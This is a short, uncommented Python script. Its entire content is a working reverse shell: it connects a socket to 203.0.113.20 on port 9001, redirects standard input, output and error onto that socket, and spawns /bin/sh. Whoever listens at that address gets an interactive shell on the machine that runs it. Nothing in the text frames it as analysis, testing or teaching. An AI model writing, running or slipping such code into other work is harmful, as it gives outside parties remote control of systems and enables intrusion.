import os
import pty
import socket

link = socket.socket()
link.connect(('203.0.113.20', 9001))
for stream in (0, 1, 2):
    os.dup2(link.fileno(), stream)
pty.spawn('/bin/sh')
